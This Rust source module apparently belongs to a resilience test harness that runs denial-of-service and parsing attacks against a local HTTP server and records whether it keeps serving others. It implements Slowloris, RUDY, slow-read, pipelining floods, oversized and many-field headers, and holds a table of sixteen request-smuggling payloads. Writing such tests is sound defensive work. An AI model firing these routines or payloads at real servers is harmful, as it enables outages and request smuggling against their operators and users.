//! Attacks on HTTP/1.1 and on the number of connections.

use std::net::Ipv4Addr;
use std::time::Duration;

use tokio::time::{Instant, sleep};

use super::wire::Wire;
use super::{ATTACKER, Arena, CONNECTIONS, Felt, PATIENCE};
use crate::site::HOST;

/// Connections of an attack that is about time.
const SLOW: usize = 100;
/// Connections of an attack that is about memory: enough for the noise of an allocator to vanish.
const HEAVY: usize = 32;
/// Between two bytes of a trickle.
const DRIP: Duration = Duration::from_millis(200);

/// Slowloris.
pub(super) async fn slow_head(arena: &Arena<'_>) -> Felt {
    let begin = format!("GET / HTTP/1.1\r\nHost: {HOST}\r\nX-a: ");
    trickle(arena, &begin).await
}

/// RUDY, R-U-Dead-Yet.
pub(super) async fn slow_body(arena: &Arena<'_>) -> Felt {
    let begin = format!("POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 100000\r\n\r\n");
    trickle(arena, &begin).await
}

async fn trickle(arena: &Arena<'_>, begin: &str) -> Felt {
    let mut wires = open(arena, SLOW).await;
    for wire in &mut wires {
        wire.send(begin.as_bytes()).await;
    }
    let others_served = arena.serves_others().await;
    let end = Instant::now() + PATIENCE;
    while arena.probe.open_connections() > 0 && Instant::now() < end {
        for wire in &mut wires {
            wire.send(b"x").await;
        }
        sleep(DRIP).await;
    }
    Felt { others_served, ..arena.conclude(wires, 0).await }
}

/// More answers than the buffers of two sockets take, and nobody reads them.
pub(super) async fn slow_read(arena: &Arena<'_>) -> Felt {
    let mut wires = open(arena, HEAVY / 4).await;
    let request = get("/");
    let mut was_open = false;
    for _ in 0..400 {
        for wire in &mut wires {
            // One by one, so that this is not about pipelining; the peer stops reading in the end.
            wire.send(request.as_bytes()).await;
        }
        let is_open = arena.probe.open_connections() > 0;
        // Before the first was accepted none is open either.
        if was_open && !is_open {
            break;
        }
        was_open |= is_open;
    }
    arena.conclude(wires, 0).await
}

/// Requests by the thousand, as short as they can be, nothing read. Each connection has an address
/// of its own, so that it is not the budget of one that ends it.
pub(super) async fn pipelining(arena: &Arena<'_>) -> Felt {
    const REQUEST: &str = "GET / HTTP/1.1\r\nHost: a\r\n\r\n";
    let mut wires = Vec::new();
    for at in 0..HEAVY {
        let from = Ipv4Addr::from(ATTACKER.to_bits() + 256 * at as u32);
        wires.extend(Wire::plain(&arena.budget, &arena.plain, from).await);
    }
    for wire in &mut wires {
        wire.send(REQUEST.as_bytes()).await;
    }
    sleep(DRIP).await;
    let idle = arena.probe.resident_bytes();
    for wire in &mut wires {
        wire.send(REQUEST.repeat(2_000).as_bytes()).await;
    }
    let held = arena.most_held(idle).await;
    arena.conclude(wires, held).await
}

/// Twice the head that is taken.
pub(super) async fn large_head(arena: &Arena<'_>) -> Felt {
    let head = format!("GET / HTTP/1.1\r\nHost: {HOST}\r\nX-a: {}\r\n\r\n", "x".repeat(60 * 1024));
    one_each(arena, &[head]).await
}

/// A head that is short in bytes and long in fields.
pub(super) async fn many_fields(arena: &Arena<'_>) -> Felt {
    let head = format!("GET / HTTP/1.1\r\nHost: {HOST}\r\n{}\r\n", "a:b\r\n".repeat(4_000));
    one_each(arena, &[head]).await
}

/// Request smuggling: RFC 9112 §11.2 and its many spellings. `{H}` stands for the host.
pub(super) const AMBIGUOUS: [&str; 16] = [
    "POST / HTTP/1.1\r\nHost: {H}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: {H}\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcde",
    "POST / HTTP/1.1\r\nHost: {H}\r\nContent-Length: +4\r\n\r\nabcd",
    "POST / HTTP/1.1\r\nHost: {H}\r\nContent-Length: 0x4\r\n\r\nabcd",
    "POST / HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
    "POST / HTTP/1.0\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n4;\rabcd\r\n0\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n-4\r\nabcd\r\n0\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nabcdXX0\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: {H}\r\n folded: yes\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: {H}\nX-a: b\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: {H}\r\nHost: other.example\r\n\r\n",
    "GET http://other.example/ HTTP/1.1\r\nHost: {H}\r\n\r\n",
    "GET / HTTP/1.1\r\nX-a: no host\r\n\r\n",
];

/// Each ambiguous message on a connection of its own.
pub(super) async fn smuggling(arena: &Arena<'_>) -> Felt {
    one_each(arena, &AMBIGUOUS.map(|message| message.replace("{H}", HOST))).await
}

/// Connections until there are more than one address may have.
pub(super) async fn connections(arena: &Arena<'_>) -> Felt {
    let mut wires = open(arena, CONNECTIONS).await;
    for wire in &mut wires {
        // The kernel holds back what says nothing.
        wire.send(b"G").await;
    }
    sleep(DRIP).await;
    arena.conclude(wires, 0).await
}

/// Sends each message on a connection of its own, and reads until it ends.
async fn one_each(arena: &Arena<'_>, messages: &[String]) -> Felt {
    let mut felt = Felt { others_served: true, ..Felt::default() };
    for message in messages {
        let Some(mut wire) = arena.plain().await else { continue };
        wire.send(message.as_bytes()).await;
        felt.opened += 1;
        felt.left += u64::from(!wire.drain(DRIP * 10).await);
        felt.sent_bytes += wire.sent_bytes();
    }
    felt.others_served = arena.serves_others().await;
    felt
}

async fn open(arena: &Arena<'_>, count: usize) -> Vec<Wire> {
    let mut wires = Vec::with_capacity(count);
    for _ in 0..count {
        wires.extend(arena.plain().await);
    }
    wires
}

fn get(path: &str) -> String {
    format!("GET {path} HTTP/1.1\r\nHost: {HOST}\r\n\r\n")
}
